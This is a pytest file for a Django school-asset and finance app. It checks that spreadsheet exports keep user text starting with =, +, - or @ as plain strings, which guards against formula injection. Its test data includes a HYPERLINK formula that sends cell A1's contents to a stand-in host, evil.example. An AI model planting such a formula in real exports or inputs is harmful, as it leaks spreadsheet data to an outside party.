"""Spreadsheet exports write people's text as text: a name or description that starts with = + - @ is a
string cell, never a live formula (read back with openpyxl)."""
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from assets.excel import export_register
from assets.models import Asset, AssetCategory
from assets.reports import asset_change_report, asset_change_xlsx
from finance.models import LedgerEntry
from logistics.sheets import append_row

from ..assets.test_loans import make_asset

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]


def _read(data):
    return load_workbook(io.BytesIO(data))


def test_append_row_keeps_formula_like_text_as_text_and_money_as_numbers():
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        sheet = wb.create_sheet("x") if write_only else wb.active
        append_row(sheet, [*FORMULAS, "普通文字", Decimal("1234.5"), 3])
        buf = io.BytesIO()
        wb.save(buf)
        row = list(_read(buf.getvalue()).worksheets[-1].iter_rows())[0]
        for cell, text in zip(row, FORMULAS, strict=False):
            assert cell.data_type == "s" and cell.value == text
        assert row[5].value == "普通文字"
        assert row[6].data_type == "n" and row[6].number_format == "#,##0.00"
        assert row[7].value == 3 and row[7].number_format == "General"


@pytest.mark.django_db
def test_register_export_writes_an_asset_named_like_a_formula_as_text(school):
    make_asset(school["room"], name=FORMULAS[0], notes="-see invoice", serial_number="@123")
    sheet = _read(export_register(Asset.objects.select_related(
        "category", "department", "custodian", "location__building"))).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["资产名称"].value == FORMULAS[0] and row["资产名称"].data_type == "s"
    assert row["备注"].data_type == "s" and row["SN号"].data_type == "s"
    assert row["单价"].data_type == "n" and row["单价"].number_format == "#,##0.00"


@pytest.mark.django_db
def test_monthly_report_xlsx_writes_a_formula_like_description_as_text(users, login):
    today = timezone.localdate()
    LedgerEntry.objects.create(date=today, direction="expense", category="office", amount=Decimal("10.00"),
                               description="=HYPERLINK(\"http://evil.example\",\"发票\")", voucher_number="+记-01",
                               created_by=users["finance"])
    r = login(users["finance"]).get(reverse("finance:monthly_report_xlsx") + f"?month={today:%Y-%m}")
    entries = _read(r.content).worksheets[1]
    assert entries["D2"].value.startswith("=HYPERLINK") and entries["D2"].data_type == "s"
    assert entries["F2"].value == "+记-01" and entries["F2"].data_type == "s"


@pytest.mark.django_db
def test_asset_change_report_writes_a_formula_like_category_as_text(school):
    category = AssetCategory.objects.create(name="=1+1")  # no code: the label is the name
    make_asset(school["room"], category=category, acquired_on=datetime.date(2025, 3, 1))
    sheet = _read(asset_change_xlsx(asset_change_report(2025))).active
    labels = [row[0] for row in sheet.iter_rows(min_row=4, max_col=1)]
    cell = next(c for c in labels if c.value == "=1+1")
    assert cell.data_type == "s"
